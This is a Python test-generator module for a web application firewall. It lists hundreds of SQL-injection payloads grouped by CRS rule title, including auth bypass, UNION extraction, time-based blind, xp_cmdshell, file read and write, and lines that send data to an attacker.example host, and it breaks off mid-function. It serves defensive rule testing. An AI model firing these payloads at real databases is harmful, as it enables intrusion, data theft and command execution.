"""Blind examples for SQL injection written as a fourth rule author's positive regression tests: for each title
of the CRS 3.3.4 SQL-injection request rules at paranoia levels 1 and 2 (and four later CRS 4.x titles), the
canonical attack the title names, one test per alternative of the title's family (each keyword, function,
operator, comment form, database name or dialect the family covers: MySQL, MSSQL, PostgreSQL, Oracle, SQLite,
MongoDB) and the variants a good rule must still catch (other quoting and casing, comment and whitespace
substitutes, concatenation, double URL encoding, HTML entities, unicode escapes inside JSON). Benign requests
carry the same words the way people type them: Slack messages and bios, searches, names and addresses,
documentation links, prose, cookies and referring links.

Family: sqli only, one sub-family per title (kebab-case from the title; the seven titles that read only "SQL
Injection Attack" are told apart by their rule id, e.g. sqli-attack-942380). Placements: about half of the
requests go to our real routes (query of /api/users, the admin search form with its csrf_token, JSON of
/api/users, a cookie, the User-Agent, the Referer, another header, a parameter name, an XML body, a multipart
field or filename, the URL path, a JSON body whose value is written with unicode escapes); the rest go the way
a WAF's regression suite sends them, to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names, as a query string, a form body, a JSON or
XML body, a raw form-typed body that is not key=value, a header or a cookie (placements prefixed "rs-").

Authorship and independence: written for this repository from general knowledge of SQL injection and the rule
titles alone (no ruleset rule, regression test or public payload list was read; none of our WAF rules or
engine either), measured once through the real stack on unchanged code, payloads not changed after the
measurement. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose

NAME = "fortythird"

# One sub-family per title, each with its payloads (canonical first, then alternatives, then variants).
TITLES: list[tuple[str, list[str]]] = [
    # 942100 PL1: SQL Injection Attack Detected via libinjection
    ("libinjection", [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "admin'--",
        "1; DROP TABLE users--",
        "' OR 1=1#",
        "1' AND 1=CONVERT(int,@@version)--",
        "-1 UNION ALL SELECT NULL,NULL,NULL--",
        "1) OR (1=1",
        "\" OR \"\"=\"",
        "1'/**/oR/**/1=1--",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
        "%27%20OR%201%3D1--",
        "&#39; OR 1=1--",
        "1' || 'a'='a",
    ]),
    # 942140 PL1: SQL Injection Attack: Common DB Names Detected
    ("common-db-names", [
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' union select name from master..sysdatabases--",
        "1 UNION SELECT name FROM sqlite_master",
        "1 union select user,host from mysql.user",
        "' AND 1=(SELECT COUNT(*) FROM msysobjects)--",
        "1 union select tablename from pg_catalog.pg_tables",
        "1;select name from tempdb..sysobjects",
        "1 union select 1 from northwind.dbo.customers",
        "1 union select sql from sqlite_temp_master",
        "1 UNION SELECT schema_name FROM INFORMATION_SCHEMA.SCHEMATA",
        "1 union select db from mysql.db",
        "1 union select name from sys.database_principals",
        "SELECT%20*%20FROM%20information_schema.columns",
        "1 union select 1 from pg_toast.pg_toast_2619",
    ]),
    # 942160 PL1: Detects blind sqli tests using sleep() or benchmark()
    ("blind-sleep-benchmark", [
        "1 AND SLEEP(5)",
        "sleep(10)#",
        "' or sleep(5)='",
        "1 and benchmark(10000000,md5(1))",
        "BENCHMARK(5000000,SHA1(0x41))",
        "1 AND SLEEP /**/ (5)",
        "SlEeP(3)",
        "1'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
        "(select*from(select(sleep(20)))a)",
        "sleep%285%29",
        "1 and sleep\t(5)",
        "benchmark(1e7,encode('a','b'))",
        "&#115;leep(5)",
    ]),
    # 942170 PL1: Detects SQL benchmark and sleep injection attempts including conditional queries
    ("conditional-sleep-benchmark", [
        "SELECT IF(1=1,SLEEP(5),0)",
        "1 AND IF(SUBSTRING(version(),1,1)=5,BENCHMARK(2000000,SHA1(1)),0)",
        "SELECT BENCHMARK(1000000,MD5('a'))",
        "; SELECT SLEEP(5)",
        "1 or if(ascii(substr(user(),1,1))>64,sleep(3),1)",
        "select case when (1=1) then sleep(5) else 0 end",
        "'; select if((select count(*) from users)>0,sleep(4),null)-- -",
        "1) and (select sleep(5) from dual where 1=1",
        "SELECT/**/IF(1,SLEEP(2),1)",
        "select elt(1=1,sleep(5))",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN SLEEP(5) ELSE 0x28 END))",
        "select benchmark(99999999,rand())",
        "sElEcT%20iF(1,sLeEp(1),0)",
    ]),
    # 942190 PL1: Detects MSSQL code execution and information gathering attempts
    ("mssql-exec-info-gathering", [
        "'; exec master..xp_cmdshell 'dir'--",
        "1; EXEC xp_cmdshell('whoami')--",
        "; exec sp_configure 'show advanced options',1; reconfigure--",
        "1 union select @@version--",
        "' union select user_name(),db_name()--",
        "1;execute('sel'+'ect 1')",
        "'; exec sp_executesql N'select 1'--",
        "; EXEC master.dbo.xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft'--",
        "1 union select name from sysobjects where xtype='U'--",
        "' ;exec xp_dirtree '\\\\attacker.example\\share'--",
        "; declare @s varchar(99) set @s=0x77686f616d69 exec(@s)--",
        "1 union all select host_name(),system_user--",
        "' UNION SELECT 1,@@servername--",
        "1 and 1=(select top 1 name from master..syslogins)",
    ]),
    # 942220 PL1: integer overflow attacks (skipfish), and the 3.0.00738585072007e-308 "magic number"
    ("integer-overflow", [
        "4294967296",
        "4294967295",
        "2147483648",
        "-2147483649",
        "9223372036854775808",
        "18446744073709551616",
        "2.2250738585072011e-308",
        "3.0.00738585072007e-308",
        "0x100000000",
        "-9223372036854775809",
        "1e309",
        "4294967296.0",
        "2.2250738585072012e-00308",
    ]),
    # 942230 PL1: Detects conditional SQL injection attempts
    ("conditional-injection", [
        "1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END",
        "' or (case when (1=1) then 1 else 0 end)=1--",
        "1 and if(1=1,1,0)",
        "1 AND IIF(1=1,1,0)=1",
        "1 and (select case when substring(@@version,1,1)='5' then 1 else 1/0 end)=1",
        "1 and decode(substr(user,1,1),'S',1,0)=1",
        "1' and ifnull(null,'a')='a",
        "1' and coalesce(null,'a')='a",
        "1 or 1 in (select case when 1=1 then 1 end)",
        "1 AND ( CASE 1 WHEN 1 THEN 1 END )",
        "1/**/and/**/case/**/when/**/1=1/**/then/**/1/**/end",
        "1 and nullif(1,2)=1",
        "if(1=1,'a','b')",
    ]),
    # 942240 PL1: Detects MySQL charset switch and MSSQL DoS attempts
    ("charset-switch-mssql-dos", [
        "alter table users convert to character set utf8",
        "' ; set names 'gbk'--",
        "1' and _utf8'admin' = username--",
        "SELECT CONVERT('a' USING latin1)",
        "1 union select charset(user())",
        "%bf%27 or 1=1-- -",
        "'; waitfor time '23:59:59'--",
        "; WAITFOR DELAY '00:59:59'--",
        "1 and 'a' COLLATE latin1_general_ci = 'A'",
        "' alter database test character set = utf8mb4--",
        "1 and _latin1'a'='a'",
        "SET CHARACTER SET big5",
        "'; ALTER TABLE users MODIFY name VARCHAR(9) CHARACTER SET sjis--",
    ]),
    # 942250 PL1: Detects MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    ("match-merge-execute-immediate", [
        "1 AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)",
        "' union select * from posts where match (body) against ('secret')--",
        "MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'",
        "'; merge users using (select 1 a) s on 1=1 when matched then delete;--",
        "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
        "execute immediate 'select 1 from dual'",
        "1 and match(a,b) against(0x61)",
        "EXECUTE   IMMEDIATE q'[grant dba to scott]'",
        "'||(execute immediate 'x')||'",
        "MATCH/**/(name)/**/AGAINST/**/('x')",
        "'; merge/**/into accounts a using dual on (1=1) when not matched then insert values (1)--",
        "1 or match (username) against ('admin*' in boolean mode)",
        "ExEcUtE%20iMmEdIaTe%20'x'",
    ]),
    # 942270 PL1: Looking for basic sql injection. Common attack string for mysql, oracle and others
    ("basic-union-select-from", [
        "1 union select password from users",
        "' UNION SELECT username,password FROM admin--",
        "union all select 1,2,3 from dual",
        "1 UNION/**/SELECT/**/NULL/**/FROM/**/users",
        "-1 uNiOn SeLeCt * FrOm accounts",
        "1 union distinct select col from t",
        "union\nselect\nlogin\nfrom\nmembers",
        "') union select cc_number from payments--",
        "union%20select%20pass%20from%20users",
        "1 UNION SELECT table_name FROM all_tables",
        "union select group_concat(email) from users",
        "1 union\tselect\tbanner\tfrom\tv$version",
        "&#117;nion select name from users",
    ]),
    # 942280 PL1: Detects Postgres pg_sleep injection, waitfor delay attacks and database shutdown attempts
    ("pgsleep-waitfor-shutdown", [
        "1; SELECT pg_sleep(10)--",
        "' || pg_sleep(5)--",
        "1 and 1=(select 1 from pg_sleep(5))",
        "'; WAITFOR DELAY '0:0:5'--",
        "1); waitfor delay '00:00:10'--",
        "'; shutdown--",
        "1; SHUTDOWN WITH NOWAIT--",
        "; waitfor time '12:00'--",
        "select pg_sleep_for('5 seconds')",
        "1;select/**/pg_sleep(3)",
        "WAITFOR%20DELAY%20'0:0:5'",
        "';shutdown ;--",
        "IF (1=1) WAITFOR DELAY '0:0:3'--",
        "1 AND 1337=(SELECT 1337 FROM PG_SLEEP(5))",
    ]),
    # 942290 PL1: Finds basic MongoDB SQL injection attempts
    ("mongodb-injection", [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "{\"$where\": \"sleep(1000)\"}",
        "{\"$regex\": \".*\"}",
        "{\"$in\": [\"admin\", \"root\"]}",
        "{\"$nin\": [\"nobody\"]}",
        "{\"$exists\": true}",
        "{\"$or\": [{}, {\"a\": \"a\"}]}",
        "[$ne]=1",
        "'; return db.users.find(); var x='",
        "$where: function(){return true}",
        "this.password.match(/.*/)//",
        "{\"$lte\": 99999}",
        "';sleep(5000);'",
    ]),
    # 942320 PL1: Detects MySQL and PostgreSQL stored procedure/function injections
    ("stored-procedure-function", [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
        "'; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE C STRICT;--",
        "; create procedure p() begin select 1; end",
        "'; DO $$ BEGIN PERFORM pg_sleep(1); END $$;--",
        "1; CALL mysql.proc_x()",
        "'; DECLARE c CURSOR FOR SELECT name FROM users--",
        "; create function f() returns trigger language plpgsql as $$begin return new; end$$",
        "'; copy (select '') to program 'id'--",
        "1;select lo_import('/etc/passwd')",
        "1 procedure analyse()",
        "'; drop function if exists f;--",
        "; CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.role='admin'",
        "select dblink_exec('host=x','select 1')",
    ]),
    # 942350 PL1: Detects MySQL UDF injection and other data/structure manipulation attempts
    ("udf-data-structure-manipulation", [
        "1; CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'--",
        "1 union select sys_eval('id')",
        "'; DROP TABLE users;--",
        "1; ALTER TABLE users ADD is_admin INT--",
        "'; TRUNCATE TABLE logs--",
        "1; INSERT INTO users (name,role) VALUES ('x','admin')--",
        "'; UPDATE users SET role='admin' WHERE 1=1--",
        "; DELETE FROM sessions--",
        "1; RENAME TABLE users TO old_users",
        "'; create table pwn (a text);--",
        "1 union select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/udf.so'",
        "';drop database app;#",
        "1;grant all privileges on *.* to 'x'@'%'--",
        "; load data infile '/etc/passwd' into table t",
    ]),
    # 942360 PL1: Detects concatenated basic SQL injection and SQLLFI attempts
    ("concatenated-sqllfi", [
        "1' UNION SELECT LOAD_FILE('/etc/passwd')--",
        "' and 1=0 union select load_file(0x2f6574632f706173737764)--",
        "1;SELECT * FROM users INTO OUTFILE '/var/www/x.php'",
        "'; select * from users;--",
        "1) ; select pg_read_file('/etc/passwd')",
        "'||(select password from users where rownum=1)||'",
        "1' + (select top 1 name from sysobjects) + '",
        "' and concat('a',(select user()))='a",
        "1 UNION SELECT 1 INTO DUMPFILE '/tmp/x'",
        "x';SELECT LOAD_FILE(CHAR(47,101,116,99,47,104,111,115,116,115))--",
        "1 as x from users union select 1",
        "' union select 1 from openrowset(bulk 'c:\\windows\\win.ini',single_clob) as x--",
        "1'%20union%20select%20load_file('/etc/hosts')--",
    ]),
    # 942500 PL1: MySQL in-line comment detected
    ("mysql-inline-comment", [
        "/*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "1 /*!UNION SELECT*/ password FROM users",
        "/*!12345select*/ 1",
        "'/*!or*/1=1--",
        "1/*!00000and*/2>1",
        "/*!32302 1/0, */ 1",
        "%2f*!union*/ select 1",
        "/*!40101 SET NAMES utf8 */",
        "1 /*! AND */ 1=1",
        "/*!SLEEP(5)*/",
        "/*M!100300 union select 1 */",
        "&#47;*!union*&#47; select 1",
        "1/*!*/union/*!*/select/*!*/1",
    ]),
    # 942110 PL2: SQL Injection Attack: Common Injection Testing Detected
    ("common-injection-testing", [
        "'",
        "1'",
        "\"",
        "admin'",
        "';",
        "`",
        "''",
        "test\"",
        "' ",
        ";'",
        "%27",
        "&#39;",
        "1`",
        "&quot;",
    ]),
    # 942120 PL2: SQL Injection Attack: SQL Operator Detected
    ("sql-operator", [
        "1 RLIKE 'a'",
        "1' REGEXP '^a'",
        "x' LIKE '%",
        "' sounds like 'a'",
        "1 NOT BETWEEN 0 AND 1",
        "1 IS NOT NULL",
        "1 XOR 1",
        "1 DIV 1",
        "a' <=> 'a",
        "name glob '*'",
        "1 !~ 'x'",
        "'a' ~* 'A'",
        "1 MOD 2",
        "1' NOT REGEXP 'x",
    ]),
    # 942130 PL2: SQL Injection Attack: SQL Tautology Detected
    ("sql-tautology", [
        "1' or 'a'='a",
        "1 or 1=1",
        "' or 2>1--",
        "x' OR 'x' LIKE 'x",
        "1 and 'abc'='abc'",
        "' OR 5 <> 6--",
        "1 or 'z' != 'y'",
        "' or true=true--",
        "\" or \"a\"=\"a",
        "1 || 2=2",
        "' OR 0x41=0x41--",
        "1 oR 7 = 7",
        "%27%20or%20%27b%27%3D%27b",
    ]),
    # 942150 PL2: SQL Injection Attack (SQL function names)
    ("sqli-attack-942150", [
        "1 and ascii(substring(password,1,1))>64",
        "' and char(65)='A",
        "1 union select concat(user,0x3a,password) from users",
        "1 and substr(version(),1,1)=5",
        "' or user()='root",
        "1 union select database()",
        "1 union select version()",
        "1 union select hex(password) from users",
        "1 and length(database())>1",
        "1 and cast(1 as char)='1'",
        "1 union select group_concat(table_name)",
        "' and current_user()='x",
        "1 and unhex('41')='A'",
        "1 AND LOWER ( name ) = 'admin'",
    ]),
    # 942180 PL2: Detects basic SQL authentication bypass attempts 1/3
    ("auth-bypass-1", [
        "admin' --",
        "admin' #",
        "admin'/*",
        "' or 1=1--",
        "' or ''='",
        "\" or \"\"=\"",
        "admin') --",
        "' or 'x'='x",
        "1' or '1'='1'--",
        "') or ('a'='a",
        "'='",
        "'-'",
        "admin\"--",
        "' or true--",
    ]),
    # 942200 PL2: Detects MySQL comment-/space-obfuscated injections and backtick termination
    ("comment-space-obfuscation", [
        "1/**/UNION/**/SELECT/**/1",
        "1'/**/or/**/'1'='1",
        ",/**/sleep(1)",
        "select`password`from`users`",
        "x` or 1=1--",
        "1\nunion\nselect\n1",
        "1 union/*x*/select 1",
        "1/*comment*/and/*comment*/1=1",
        "admin`--",
        "1%0bunion%0bselect%0b1",
        "1\u00a0union\u00a0select\u00a01",
        "'/**/and(select(1)from(users))",
        "1 union(select(1),(2))",
        "1\r\nor\r\n1=1",
    ]),
    # 942210 PL2: Detects chained SQL injection attempts 1/2
    ("chained-injection-1", [
        "1; select 1",
        "'; drop table x--",
        "1;declare @a int",
        "a'; exec('x')",
        "'; insert into logs values(1)--",
        "1 ; update users set a=1",
        "\"); delete from users where (\"1\"=\"1",
        "x'); shutdown;--",
        "' && '1",
        "a' and 'b",
        "' || 'x",
        "1 or (select 1)",
        "\" or \"x",
        "';begin select 1 end--",
    ]),
    # 942260 PL2: Detects basic SQL authentication bypass attempts 2/3
    ("auth-bypass-2", [
        "admin' or '1'='1",
        "' or 1 --",
        "\" or 1=1 #",
        "' or true #",
        "admin'or 1=1 or ''='",
        "' union select 1,'admin','x'--",
        "1' having 1=1--",
        "' group by username having 1=1--",
        "'or''='",
        "admin' and 1=1 --",
        "') or true--",
        "' OR 'unusual' = 'unusual'",
        "'||1#",
    ]),
    # 942300 PL2: Detects MySQL comments, conditions and ch(a)r injections
    ("comments-conditions-char", [
        "char(115,101,108,101,99,116)",
        "' || chr(65)||chr(66) || '",
        "1 and char(49)=char(49)",
        "1 union select concat(char(97),char(98))",
        "1) or (1=1)#",
        "1 or 1=1 -- -",
        "' and 'a'='a' #",
        "1 where 1=1 /*",
        "1 union select char(0x41)",
        "1 and (select 1)=1 #",
        "nchar(65)+nchar(66)",
        "x' and chr(65)='A",
        "CHAR%2865%29",
    ]),
    # 942310 PL2: Detects chained SQL injection attempts 2/2
    ("chained-injection-2", [
        "1); select 1 --",
        "' ) or ( '1' = '1",
        "\")) or ((\"x\"=\"x",
        "1)) or ((1=1",
        "'); --",
        "1' );drop table t;--",
        "1' and ( select 1 )--",
        "') and 1=(select 1)--",
        "1) union select 1--",
        "1\";select 1;--",
        "admin'))--",
        "' or ('1')=('1",
        "%27%29%3B%20--",
    ]),
    # 942330 PL2: Detects classic SQL injection probings 1/3
    ("classic-probing-1", [
        "\" or 1=1--",
        "' or 1#",
        "1' and 1='1",
        "x' or 1 in (1)--",
        "1' and '1",
        "' and ''='",
        "\" and \"1\"=\"1",
        "' or '0",
        "1\" or \"1",
        "' or 0x1--",
        "'--",
        "'or 1='1",
        "&#x27; or &#x27;1",
    ]),
    # 942340 PL2: Detects basic SQL authentication bypass attempts 3/3
    ("auth-bypass-3", [
        "admin' and 1 in (select 1)--",
        "' or 1 like 1--",
        "' or username like '%admin%",
        "1' or 1 = 1 /*",
        "' or 'a' like 'a'--",
        "') or 1 like ('1",
        "\" or \"a\" like \"a",
        "' or uid like '%",
        "' or 1 between 0 and 2--",
        "admin' or 'b' > 'a",
        "' or 2 > 1 --",
        "' is not null --",
        "' oR 1 LiKe 1#",
    ]),
    # 942361 PL2: Detects basic SQL injection based on keyword alter or union
    ("alter-union-keyword", [
        "1 union select 1",
        "') union all select null--",
        "alter table users add column x int",
        "';alter user sa with password='x'--",
        "UNION ALL SELECT",
        "1 UNION\tSELECT 2",
        "union(select 1)",
        "ALTER DATABASE app SET SINGLE_USER",
        "alter session set nls_language='french'",
        "uNiOn sElEcT",
        "1 union distinct select null",
        "';ALTER LOGIN sa ENABLE--",
        "1\nunion\nselect 2",
        "%75nion select 1",
    ]),
    # 942370 PL2: Detects classic SQL injection probings 2/3
    ("classic-probing-2", [
        "1' or 1=1 --",
        "' OR 'a'='a' --",
        "1\" AND \"1\"=\"1\" --",
        "') or '1'='1'--",
        "'*'",
        "1'*'1",
        "' + '",
        "'-1-'",
        "' & 1 ='1",
        "x' ^ 1 -- ",
        "1' / 1 --",
        "'>'",
        "1' or '1",
    ]),
    # 942380 PL2: SQL Injection Attack (having, exists, order/group by, into outfile, limit)
    ("sqli-attack-942380", [
        "1 having 1=1",
        "1 order by 10--",
        "1 group by 1,2,3 having 1=1--",
        "' and exists (select * from users)--",
        "1 and not exists(select 1)",
        "1;execute sp_who",
        "1 into outfile '/tmp/x'",
        "1 union select 1",
        "1 limit 1,1",
        "1 ORDER BY 1 DESC--",
        "1 and 1 in (select 1)",
        "' group by password having 1=1--",
        "1'%20having%201=1--",
    ]),
    # 942390 PL2: SQL Injection Attack (or / xor with a value)
    ("sqli-attack-942390", [
        "1 or 1",
        "' or 'a'",
        "1 xor 1",
        "x' or 2 > 1",
        "1 or true",
        "' or  0x50",
        "1 OR 'z'",
        "1 || 1",
        "' or \"x\"",
        "1 or sleep(1)",
        "1 or a is null",
        "' or 1 is not null--",
        "'\tOR\t1",
    ]),
    # 942400 PL2: SQL Injection Attack (and with a value)
    ("sqli-attack-942400", [
        "1 and 1",
        "1' and 'a",
        "1 and true",
        "' and 0x31",
        "1 and 1 like 1",
        "1 AND 5 BETWEEN 1 AND 10",
        "x' and 1 in (1)",
        "1 && 1",
        "' and \"a\"=\"a",
        "1 and ascii('a')>1",
        "1 and not 0",
        "1 and '1' is not null",
        "1%20AnD%201",
    ]),
    # 942410 PL2: SQL Injection Attack (the long list of SQL functions)
    ("sqli-attack-942410", [
        "1 and extractvalue(1,concat(0x7e,version()))",
        "1 and updatexml(1,concat(0x7e,user()),1)",
        "1 and (select count(*) from users group by floor(rand(0)*2))",
        "1 union select load_file('/etc/passwd')",
        "1 and ord(mid(user(),1,1))>1",
        "1 union select aes_decrypt(x,'k') from t",
        "1 and crc32('a')>0",
        "1 union select connection_id()",
        "1 and conv(10,10,2)",
        "1 union select from_base64('YQ==')",
        "1 and get_lock('a',1)",
        "1 union select name_const(version(),1)",
        "1 and make_set(1,user())",
        "1 union select session_user()",
        "1 and bit_length(user())>0",
    ]),
    # 942470 PL2: SQL Injection Attack (xp_, sp_, utl_, dbms_ and other database internals)
    ("sqli-attack-942470", [
        "' and utl_http.request('http://attacker.example/'||user)=1--",
        "1 and utl_inaddr.get_host_address((select user from dual)) is null",
        "1 and dbms_pipe.receive_message('a',10)=1",
        "'||dbms_java.runjava('x')||'",
        "begin dbms_lock.sleep(5); end;",
        "pragma autonomous_transaction",
        "; xp_cmdshell 'dir'",
        "sp_password",
        "1 union select object_name from sys.user_objects",
        "; exec xp_regwrite 'HKLM','x','y','REG_SZ','z'",
        "; exec sp_makewebtask 'c:\\x.html','select 1'",
        "; xp_servicecontrol 'start','schedule'",
        "1 and ctxsys.drithsx.sn(user,(select banner from v$version))=1",
        "1 union select dbms_xmlgen.getxml('select user from dual') from dual",
    ]),
    # 942480 PL2: SQL Injection Attack (SQL statements in headers and cookies)
    ("sqli-attack-942480", [
        "select * from users",
        "insert into logs values (1)",
        "delete from users",
        "update users set role='admin'",
        "drop table sessions",
        "union select 1",
        "';select password from users where id=1--",
        "create table x(a int)",
        "grant select on users to public",
        "truncate table audit",
        "load data local infile '/etc/passwd' into table t",
        "SELECT name FROM accounts WHERE 1",
        "select%20*%20from%20users",
    ]),
    # 942430 PL2: Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    ("special-char-anomaly", [
        "((((((((((((((1))))))))))))))",
        "'''''''''''''''",
        "1'\"`;--#/**/()[]{}<>|&",
        "~!@#$%^&*()_+{}|:\"<>?",
        ";;;;;;;;;;;;;;;",
        "-1')))))))))))) or 1=1--",
        "@@@@@@@@@@@@@@@",
        "((select(1))+(select(2))+(select(3)))",
        "'||'||'||'||'||'||'||'",
        "{{{{[[[[((((''''",
        "!!!!!!!!!!!!!!!",
        "`~`~`~`~`~`~`~`~",
        "%%%%%%%%%%%%%%",
    ]),
    # 942440 PL2: SQL Comment Sequence Detected
    ("sql-comment-sequence", [
        "1--",
        "admin'--",
        "1#",
        "1/*",
        "*/",
        "1 -- -",
        "x';--",
        "1/**/",
        "--+",
        "1 #comment",
        "a;--",
        "/*!*/",
        "1 -- \n",
        "1%2D%2D",
    ]),
    # 942450 PL2: SQL Hex Encoding Identified
    ("sql-hex-encoding", [
        "0x61646d696e",
        "select 0x2f6574632f706173737764",
        "1 union select 0x3c3f706870",
        "X'41424344'",
        "where name=0x726f6f74",
        "0X5345434C454354",
        "unhex(0x41)",
        "char(0x41,0x42)",
        "0x3a3a3a3a",
        "0x27206f7220313d31",
        "load_file(0x2f6574632f686f737473)",
        "x'61646d696e'",
        "0x7e",
    ]),
    # 942510 PL2: SQLi bypass attempt by ticks or backticks detected
    ("ticks-backticks-bypass", [
        "`id`",
        "select`user`from`mysql`.`user`",
        "1`or`1",
        "`admin`--",
        "\u00b4 or 1=1--",
        "\u2019 or 1=1--",
        "\u2018 or \u20181\u2019=\u20181",
        "`union`select",
        "x` OR `a`=`a",
        "``",
        "1' or `1`=`1",
        "\u00b4\u00b4",
        "%60id%60",
    ]),
    # CRS 4.x: JSON-Based SQL Injection
    ("json-based-sqli", [
        "1 or '{\"a\":1}' = '{\"a\":1}'",
        "' or json_extract('{\"a\":1}','$.a')=1--",
        "' AND '{\"a\":2}'::jsonb @> '{\"a\":2}'::jsonb--",
        "1 or '[1]'::json ->> 0 = '1'",
        "1 union select json_object('x',(select user()))",
        "' or json_valid('{}')--",
        "1 and '{\"x\":1}' ->> '$.x' = 1",
        "' OR JSON_CONTAINS('[1]','1')--",
        "1 or jsonb_typeof('{}')='object'",
        "' or '{}' <@ '{\"a\":1}'--",
        "1 and json_keys((select json_object('a',password) from users limit 1)) is not null",
        "' or '{\"b\":2}' #> '{b}' = '2",
    ]),
    # CRS 4.x: MySQL Scientific Notation payload detected
    ("mysql-scientific-notation", [
        "1.e1union select 1",
        "' or 1.e(1)='1",
        "' or 1.e('')='",
        "0e1union select password from users",
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e) 1.e)) = 70",
        "1e0union select 1",
        "1.0e1or 1=1",
        "2.e4and 1=1",
        "' 1.e(1) or 1=1--",
        "3.e3from users",
        "1.E(1)UNION SELECT 1",
        "1.e,",
    ]),
    # CRS 4.x: SQL Authentication bypass (split query); each entry is two fields of one request, split by " | "
    ("auth-bypass-split-query", [
        "admin'/* | */ or '1'='1",
        "admin' or ' | ' = '",
        "' or 1=1 /* | */ --",
        "admin\"/* | */ or \"\"=\"",
        "x' union /* | */ select 1,2--",
        "admin'# | anything",
        "' or 'a | a'='a",
        "admin')/* | */or('1'='1",
        "admin' and 1=0 union select 'admin','x' -- | x",
        "admin'||' | '",
        "\\ | or 1=1--",
    ]),
    # CRS 4.x: Detects basic SQL authentication bypass attempts 4/4
    ("auth-bypass-4", [
        "' or 1=1 limit 1 --",
        "admin' order by 1--",
        "' or 1=1 limit 1;#",
        "1' or '1'='1' limit 1 offset 0--",
        "') or true limit 1--",
        "' || 1 limit 1--",
        "admin' or 1=1 order by id desc--",
        "\" or 1 = 1 limit 1 --",
        "' or username is not null limit 1#",
        "' or 'x'='x' offset 1 rows--",
        "admin' union select 1 limit 1--",
        "'or'1'>'0",
    ]),
]

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Custom", "param-name",
        "xml", "multipart-field", "multipart-filename", "path", "json-uescape"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie", "rs-json-uescape", "rs-query", "rs-form", "rs-json"]
# real and regression-suite placements taken in turn
ROTATION = [p for pair in zip(REAL, RS, strict=True) for p in pair]
# the character-count title is about arguments; the split query needs two fields of one request
ARGS_ONLY = ["query", "rs-query", "form", "rs-form", "json", "rs-json", "multipart-field", "rs-xml", "xml",
             "rs-raw-body", "json-uescape", "rs-json-uescape"]
SPLIT = ["query", "rs-form", "form", "rs-query", "json", "rs-json", "multipart-field"]
POOLS = {"special-char-anomaly": ARGS_ONLY, "auth-bypass-split-query": SPLIT}

REAL_NAMES = ["q", "name", "email", "sort", "filter", "id", "team", "city"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
BOUNDARY = "----fortythirdBoundary7MA4YWxkTrZu0gW"


def _hv(value: str) -> str:
    """A header value: no CR, LF or NUL, and anything outside printable ASCII percent-encoded."""
    return "".join(c if 32 <= ord(c) < 127 or c == "\t" else urllib.parse.quote(c) for c in value)


def _uescape(value: str) -> str:
    """A JSON string literal with every character but letters, digits and spaces written as \\uXXXX."""
    out = []
    for c in value:
        if (c.isascii() and c.isalnum()) or c == " ":
            out.append(c)
        elif ord(c) > 0xFFFF:
            hi, lo = divmod(ord(c) - 0x10000, 0x400)
            out.append(f"\\u{0xD800 + hi:04x}\\u{0xDC00 + lo:04x}")
        else:
            out.append(f"\\u{ord(c):04x}")
    return '"' + "".join(out) + '"'


def _with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _mongo_value(value: str) -> Any:
    """A MongoDB operator written as a JSON object is sent as that object inside JSON bodies."""
    if value.startswith("{"):
        try:
            return json.loads(value)
        except ValueError:
            return value
    return value


def _multipart(uri: str, parts: list[tuple[str, str, str | None]]) -> dict[str, Any]:
    """(field name, value, filename or None) parts in one multipart/form-data body."""
    chunks = []
    for field, value, filename in parts:
        disp = f'form-data; name="{field}"'
        if filename is not None:
            disp += f'; filename="{filename}"'
        ctype = "\r\nContent-Type: image/png" if filename is not None else ""
        chunks.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}{ctype}\r\n\r\n{value}\r\n")
    body = "".join(chunks) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _xml(uri: str, root: str, field: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><{root}><{field}>{escape(value)}</{field}></{root}>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}


def _raw_json(uri: str, text: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": text,
            "headers": {"User-Agent": UA, "Accept": "application/json", "Content-Type": "application/json"}}


def _real(place: str, name: str, value: str, sub: str) -> dict[str, Any]:
    if place == "query":
        return _get(_query("/api/users", [(name, value), ("page", "1")]))
    if place == "form":
